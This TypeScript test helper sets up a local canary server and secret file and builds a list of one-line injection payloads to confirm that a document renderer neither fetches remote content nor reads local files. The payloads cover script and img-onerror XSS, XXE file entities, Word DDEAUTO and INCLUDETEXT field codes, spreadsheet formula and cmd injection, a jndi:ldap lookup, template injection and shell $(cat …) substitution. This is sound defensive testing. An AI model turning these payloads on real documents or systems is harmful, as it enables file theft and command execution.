import { randomUUID } from 'node:crypto';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { openNetworkListener } from './network-listener.ts';

/** A server that no document may contact and a file that no document may contain, with hostile texts that try. */
export type Canary = {
  /** Number of connections and datagrams received. */
  contacts: number;
  /** The hosts on which it listens, all with the same port. */
  hosts: string[];
  port: number;
  file: string;
  /** The content of the file. */
  secret: string;
  /** Hostile texts, one for each technique. Each is a single line. */
  payloads: string[];
  /** Valid link addresses of the server, which no document may request. */
  addresses: string[];
  close(): Promise<void>;
};

export async function openCanary(): Promise<Canary> {
  const folder = await mkdtemp(join(tmpdir(), 'vitae-canary-'));
  const secret = `canary-${randomUUID()}`;
  const file = join(folder, 'secret.txt');
  await writeFile(file, secret);
  const listener = await openNetworkListener(() => {
    canary.contacts += 1;
  });
  const { hosts, port } = listener;
  const canary: Canary = {
    contacts: 0,
    hosts,
    port,
    file,
    secret,
    payloads: hostileTexts(`127.0.0.1:${port}`, `2130706433:${port}`, file),
    addresses: [
      `http://127.0.0.1:${port}/page`,
      `http://2130706433:${port}/redirect`,
      `https://localhost:${port}/x`,
      `http://[::1]:${port}/six`,
      `http://[::ffff:7f00:1]:${port}/mapped`,
      `http://canary.localhost:${port}/name`,
    ],
    close: async () => {
      await listener.close();
      await rm(folder, { recursive: true, force: true });
    },
  };
  return canary;
}

/** `decimalHost` is the address as a single number, which some filters do not recognize. */
function hostileTexts(host: string, decimalHost: string, file: string): string[] {
  const port = host.split(':').at(-1);
  const field = (code: string) => `\u0013 ${code} \u0014shown\u0015`;
  return [
    `<script src="http://${host}/s.js"></script><script>fetch("http://${host}/f")</script>`,
    `"><img src=x onerror="new Image().src='http://${host}/e'"><svg onload="fetch('http://${decimalHost}/svg')"><image href="http://${host}/i"/></svg>`,
    `</style><style>@import url(http://${host}/c.css); body{background:url(file://${file})}</style>`,
    `"; } @font-face { font-family: x; src: url("http://${decimalHost}/font") } \\"`,
    `<iframe src="file://${file}"></iframe><link rel="prefetch" href="http://${decimalHost}/redirect"><meta http-equiv="refresh" content="0;url=http://${host}/m">`,
    `<object data="http://${host}/o"></object><embed src="file://${file}"><base href="http://${host}/">`,
    `javascript:fetch('http://${host}/j')`,
    `]]></w:t></w:r><w:fldSimple w:instr="INCLUDETEXT &quot;${file}&quot;"><w:r><w:t>&xxe;</w:t></w:r></w:fldSimple>`,
    `<!DOCTYPE x [<!ENTITY xxe SYSTEM "file://${file}">]><x>&xxe;</x><?xml-stylesheet href="http://${host}/x.xsl"?>`,
    field(`INCLUDETEXT "${file}"`),
    field(`INCLUDEPICTURE "http://${host}/p.png" \\d`),
    field(`DDEAUTO cmd "/c calc http://${host}/dde"`),
    field(`HYPERLINK "file://${file}"`),
    `{INCLUDETEXT "${file}"} {DDEAUTO soffice "${file}"} {=1+1} {IMPORT "http://${host}/i"}`,
    `<text:section-source xlink:href="file://${file}"/><draw:image xlink:href="http://${host}/d.png"/><text:dde-connection/>`,
    `=HYPERLINK("http://${host}/h") =WEBSERVICE("http://${host}/w") =cmd|' /C calc'!A0 @SUM(1) +1 -1`,
    `\\\\${host}\\share\\x.png file://${file} //${host}/x ftp://${host}/f`,
    'nul\u0000 bell\u0007 escape\u001b[31m delete\u007f c1\u0085\u009b form\u000c vertical\u000b ffff\uffff fffe\ufffe',
    `half \ud83d of a pair \udc00 and \u202eoverride\u202d \u2066isolate\u2069 \u200f\u061c mark \ufeff bom \u2028 line \u2029 paragraph`,
    `%s%n %00 \${jndi:ldap://${host}/a} {{7*7}} <%= 7 %> ../../..${file} $(cat ${file}) \`cat ${file}\` ; cat ${file}`,
    `<img src="http://[::1]:${port}/six"><link rel="preconnect" href="http://[::ffff:7f00:1]:${port}"><link rel="dns-prefetch" href="//canary.localhost:${port}"><img srcset="//[::1]:${port}/set 2x">`,
    `<script>new RTCPeerConnection({iceServers:[{urls:["stun:${host}","stun:[::1]:${port}"]}]}).createOffer()</script><a ping="http://${host}/ping" href="turn:${host}?transport=udp">`,
    field(`INCLUDEPICTURE "http://[::1]:${port}/six.png" \\d`),
  ];
}
